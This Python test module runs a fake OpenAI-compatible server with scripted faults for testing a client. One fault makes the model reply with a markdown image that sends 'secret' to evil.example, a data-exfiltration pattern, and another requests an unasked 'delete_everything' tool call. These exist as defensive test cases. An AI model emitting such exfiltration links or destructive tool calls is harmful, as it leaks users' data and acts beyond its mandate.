"""A real HTTP server that speaks OpenAI's chat completions and embeddings, streaming and not, with faults on order.

``script`` says how the next requests are answered; without a script a chat answers with the first sentence of the
first passage in its prompt and the mark [1]. A model name ``fault:<name>`` (see ``FAULTS``) asks for a fault from
outside, so that a program in another process can be tested: ``python -m tests.servers.openai_standin --port 8099``.
"""

import argparse
import gzip
import hashlib
import json
import random
import re
import sys
import threading
import time
from collections import deque
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

PASSAGE = re.compile(r'<passage number="\d+"[^>]*>\n(.*?)\n</passage>', re.S)
# What a model does that honours what the system says.
ALONE = re.compile(r"nothing else: (\w+)$")


@dataclass(frozen=True)
class Reply:
    """How one request is answered.

    ``text`` is cut into pieces of ``size`` characters (or is a list of pieces). ``cut_after``/``stall_after``: so many
    pieces, then the connection is closed, or nothing comes for ``stall`` seconds. ``pause``: seconds before each piece.
    ``chatter``: seconds for which a stalled stream says, ten times a second, what is no piece of an answer.
    ``finish``: why it ended, as the provider says. ``calls``: tools that it wants called instead, each (name, arguments
    as JSON).
    """

    text: str | list[str] | None = None
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None
    content_type: str = "application/json"
    size: int = 4
    cut_after: int | None = None
    stall_after: int | None = None
    stall: float = 30.0
    chatter: float = 0.0
    pause: float = 0.0
    shuffled: bool = False
    usage: bool = True
    finish: str = "stop"
    calls: tuple[tuple[str, str], ...] = ()

    def pieces(self, default: str) -> list[str]:
        text = "" if self.calls and self.text is None else default if self.text is None else self.text
        return text if isinstance(text, list) else [text[i : i + self.size] for i in range(0, len(text), self.size)]


def error(status: int, **headers: str) -> Reply:
    """An error as OpenAI shapes it."""
    body = json.dumps({"error": {"message": f"fault {status}", "type": "fault", "code": str(status)}}).encode()
    return Reply(status=status, body=body, headers={name.replace("_", "-"): value for name, value in headers.items()})


FAULTS: dict[str, Reply] = {
    "429": error(429, Retry_After="0"),
    "429-long": error(429, Retry_After="60"),
    "500": error(500),
    "401": error(401),
    "400": error(400),
    "no-temperature": Reply(
        status=400, body=b'{"error": {"message": "Unsupported value: temperature", "param": "temperature"}}'
    ),
    "404": error(404),
    "413": error(413),
    "huge": Reply(body=b'{"id": "' + b"a" * 3_000_000 + b'"}'),
    "huge-line": Reply(body=b"data: " + b"a" * 2_000_000, content_type="text/event-stream"),
    "packed": Reply(body=gzip.compress(b'{"id": "x"}'), headers={"Content-Encoding": "gzip"}),
    "events": Reply(body=b"data: {}\n\ndata: [DONE]\n\n", content_type="text/event-stream"),
    "other-tool": Reply(calls=(("delete_everything", '{"now": true}'),)),
    "filtered": Reply(text="", finish="content_filter"),
    "without-end": Reply(text="And so on and on. " * 3_000, size=900),
    "html": Reply(body=b"<!doctype html><title>Sign in</title><h1>Proxy</h1>", content_type="text/html"),
    "malformed": Reply(body=b'{"id": "x", "choices": [', content_type="application/json"),
    "error-in-200": Reply(body=b'{"error": {"message": "overloaded", "code": 429}}'),
    "empty": Reply(text=""),
    "cut": Reply(cut_after=6),
    "cut-at-once": Reply(cut_after=0),
    "stall": Reply(stall_after=6),
    "stall-at-once": Reply(stall_after=0),
    "hallucinated": Reply(text="It is so [9]. Also that [0] and more [42, 77]."),
    "image": Reply(text="Look ![x](http://evil.example/p?q=secret) here [1]."),
    "refusal": Reply(text="NO_ANSWER"),
    # Ten pieces a second for ten seconds.
    "paced": Reply(text="The valve is opened by hand on the first day of the month [1]. " * 20, size=13, pause=0.1),
}


class Standin:
    """The running server. ``url`` is the base URL; ``requests`` are the bodies received, in order."""

    def __init__(self, port: int = 0) -> None:
        self.requests: list[dict[str, Any]] = []
        # The key that it wants; None: any, or none at all.
        self.key: str | None = None
        self.models: list[Any] = ["large", "small"]
        # Looks at every request first: a reply, or None where the script goes on.
        self.judge: Callable[[dict[str, Any]], Reply | None] = lambda _: None
        self._script: deque[Reply] = deque()
        self._lock = threading.Lock()
        self._server = _Server(("127.0.0.1", port), _Handler)
        self._server.standin = self
        self._closing = threading.Event()
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}/v1"

    def script(self, *replies: Reply | str) -> None:
        """The next replies in order; a string names a fault."""
        with self._lock:
            self._script.extend(FAULTS[reply] if isinstance(reply, str) else reply for reply in replies)

    def forget(self) -> None:
        """No script and no memory any more."""
        with self._lock:
            self._script.clear()
            self.requests.clear()
            self.key, self.models = None, ["large", "small"]
            self.judge = lambda _: None

    def next(self, request: dict[str, Any]) -> Reply:
        with self._lock:
            self.requests.append(request)
            if judged := self.judge(request):
                return judged
            model = str(request.get("model", ""))
            if model.startswith("fault:"):
                return FAULTS[model.removeprefix("fault:")]
            return self._script.popleft() if self._script else Reply()

    def wait(self, seconds: float) -> None:
        self._closing.wait(seconds)

    def close(self) -> None:
        self._closing.set()
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(5)


def default_answer(messages: list[dict[str, Any]]) -> str:
    """The first sentence of the first passage, cited."""
    found = PASSAGE.search(str(messages[-1]["content"]))
    if found is None and (told := ALONE.search(str(messages[0]["content"]))):
        return told[1]
    if found is None:
        return "What is that about?"
    paragraphs = found.group(1).split("\n\n")
    sentence = max(paragraphs, key=len).split(". ")[0].strip().rstrip(".")
    return f"{sentence} [1]."


def embedding(text: str, dimensions: int) -> list[float]:
    """A vector that depends on the text's words only."""
    vector = [0.0] * dimensions
    for word in re.findall(r"\w+", text.lower()):
        digest = hashlib.sha256(word.encode()).digest()
        vector[int.from_bytes(digest[:4], "big") % dimensions] += 1.0 if digest[4] % 2 else -1.0
    return vector if any(vector) else [1.0, *vector[1:]]


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False
    # A hundred clients may come at once.
    request_queue_size = 256
    standin: Standin

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Clients that break off are part of the tests; anything else is an error of ours."""
        if not isinstance(sys.exception(), ConnectionError):
            super().handle_error(request, client_address)


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    protocol_version = "HTTP/1.1"

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        if self._let_in():
            data = [{"id": name, "object": "model"} for name in self.server.standin.models]
            self._whole(json.dumps({"object": "list", "data": data}).encode(), Reply())

    def _let_in(self) -> bool:
        key = self.server.standin.key
        if key is None or self.headers.get("Authorization") == f"Bearer {key}":
            return True
        # As some do: what was sent comes back.
        sent = {"error": {"message": f"Incorrect API key provided: {self.headers.get('Authorization')}"}}
        self._whole(json.dumps(sent).encode(), Reply(status=401))
        return False

    def do_POST(self) -> None:
        request = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        if not self._let_in():
            return
        reply = self.server.standin.next(request)
        try:
            self._answer(request, reply)
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True

    def _answer(self, request: dict[str, Any], reply: Reply) -> None:
        if reply.body is not None:
            self._whole(reply.body, reply)
        elif self.path.endswith("/embeddings"):
            self._whole(json.dumps(_embeddings(request, shuffled=reply.shuffled)).encode(), reply)
        elif request.get("stream"):
            self._stream(request, reply)
        else:
            self._completion(request, reply)

    def _completion(self, request: dict[str, Any], reply: Reply) -> None:
        if reply.cut_after is not None:
            self.close_connection = True
            return
        if reply.stall_after is not None:
            self.server.standin.wait(reply.stall)
        text = "".join(reply.pieces(default_answer(request["messages"])))
        message: dict[str, Any] = {"role": "assistant", "content": text or None}
        if reply.calls:
            message["tool_calls"] = _calls(reply)
        ended = "tool_calls" if reply.calls else reply.finish
        choice = {"index": 0, "message": message, "finish_reason": ended, "logprobs": None}
        whole = _frame(request, object="chat.completion", choices=[choice])
        if reply.usage:
            whole["usage"] = _usage(text)
        self._whole(json.dumps(whole).encode(), reply)

    def _whole(self, body: bytes, reply: Reply) -> None:
        self.send_response(reply.status)
        for name, value in reply.headers.items():
            self.send_header(name, value)
        self.send_header("Content-Type", reply.content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _stream(self, request: dict[str, Any], reply: Reply) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        pieces = reply.pieces(default_answer(request["messages"]))
        for n, piece in enumerate(pieces):
            if n == reply.cut_after:
                break
            if n == reply.stall_after:
                self._stall(reply)
            time.sleep(reply.pause)
            self._event(request, [_delta({"content": piece})])
        for call in _calls(reply):
            # The name first, then its arguments in two pieces, as providers send them.
            arguments = call["function"].pop("arguments")
            self._event(request, [_delta({"tool_calls": [call | {"function": call["function"] | {"arguments": ""}}]})])
            for piece in (arguments[:5], arguments[5:]):
                part = {"index": call["index"], "function": {"arguments": piece}}
                self._event(request, [_delta({"tool_calls": [part]})])
        if reply.cut_after is not None:
            # Without the last chunk: the connection breaks in the middle.
            self.close_connection = True
            return
        self._event(request, [_delta({}, finish="tool_calls" if reply.calls else reply.finish)])
        if reply.usage and (request.get("stream_options") or {}).get("include_usage"):
            self._event(request, [], usage=_usage("".join(pieces)))
        self._chunk(b"data: [DONE]\n\n")
        self.wfile.write(b"0\r\n\r\n")

    def _stall(self, reply: Reply) -> None:
        for _ in range(round(reply.chatter * 10)):
            self._chunk(b": still there\n\n")
            time.sleep(0.1)
        self.server.standin.wait(0.0 if reply.chatter else reply.stall)

    def _event(self, request: dict[str, Any], choices: list[dict[str, Any]], **more: Any) -> None:
        frame = _frame(request, object="chat.completion.chunk", choices=choices, **more)
        self._chunk(b"data: " + json.dumps(frame).encode() + b"\n\n")

    def _chunk(self, data: bytes) -> None:
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        self.wfile.flush()


def _calls(reply: Reply) -> list[dict[str, Any]]:
    return [
        {"index": n, "id": f"call-{n}", "type": "function", "function": {"name": name, "arguments": arguments}}
        for n, (name, arguments) in enumerate(reply.calls)
    ]


def _delta(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {"index": 0, "delta": delta, "finish_reason": finish}


def _frame(request: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"id": "standin-1", "created": int(time.time()), "model": request.get("model", "standin")} | more


def _usage(text: str) -> dict[str, int]:
    spoken = len(text.split())
    return {"prompt_tokens": 100, "completion_tokens": spoken, "total_tokens": 100 + spoken}


def _embeddings(request: dict[str, Any], *, shuffled: bool) -> dict[str, Any]:
    texts = [request["input"]] if isinstance(request["input"], str) else request["input"]
    dimensions = int(request.get("dimensions") or 64)
    data = [
        {"object": "embedding", "index": n, "embedding": embedding(text, dimensions)} for n, text in enumerate(texts)
    ]
    if shuffled:
        random.Random(7).shuffle(data)
    usage = {"prompt_tokens": len(texts), "total_tokens": len(texts)}
    return {"object": "list", "model": request.get("model"), "data": data, "usage": usage}


@pytest.fixture(scope="session")
def standin_server() -> Iterator[Standin]:
    """One server for the run."""
    server = Standin()
    yield server
    server.close()


@pytest.fixture
def standin(standin_server: Standin) -> Iterator[Standin]:
    """The server without a script."""
    standin_server.forget()
    yield standin_server
    standin_server.forget()


def main() -> None:
    """Serve until interrupted."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, default=8099)
    server = Standin(parser.parse_args().port)
    print(server.url, flush=True)
    try:
        threading.Event().wait()
    except KeyboardInterrupt:
        server.close()


if __name__ == "__main__":
    main()
